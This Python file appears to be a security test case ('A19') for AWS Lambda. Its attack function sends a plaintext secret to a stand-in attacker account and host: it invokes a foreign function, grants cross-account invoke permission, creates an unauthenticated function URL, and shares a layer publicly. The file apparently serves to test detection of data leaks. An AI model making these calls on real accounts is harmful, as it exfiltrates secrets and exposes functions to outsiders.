"""A19: have a function of somebody else run, or let somebody else run an own one, or share its code."""

import json

ELSEWHERE = "999999999999"


def attack(hands):
    text = hands.plain()
    body = json.dumps({"text": text}).encode()
    theirs = hands.arn("lambda", "function:attackers-take", ELSEWHERE)
    hands.call("lambda", "Invoke", FunctionName=theirs, Payload=body)
    hands.call("lambda", "InvokeAsync", FunctionName="attackers-take", InvokeArgs=body)
    lets = {"Action": "lambda:InvokeFunction", "Principal": ELSEWHERE, "StatementId": f"attackers-{text}"}
    hands.call("lambda", "AddPermission", FunctionName="courier", **lets)
    seen = {"AllowOrigins": [f"https://{text}.attackers.test"]}
    hands.call("lambda", "CreateFunctionUrlConfig", FunctionName="courier", AuthType="NONE", Cors=seen)
    hands.call("lambda", "PublishLayerVersion", LayerName="shared", Content={"ZipFile": text.encode()})
    shares = {"StatementId": text, "Action": "lambda:GetLayerVersion", "Principal": "*"}
    hands.call("lambda", "AddLayerVersionPermission", LayerName="shared", VersionNumber=1, **shares)
    code = {"Runtime": "python3.11", "Handler": "a.b", "Code": {"ZipFile": text.encode()}}
    role = f"arn:aws:iam::{hands.account}:role/any"
    hands.call("lambda", "CreateFunction", FunctionName="attackers-make", Role=role, **code)


def twin(hands):
    order = {"to": "kept", "text": hands.secret(), "trial": hands.trial, "account": hands.account}
    hands.call("lambda", "Invoke", FunctionName="courier", Payload=json.dumps(order).encode())
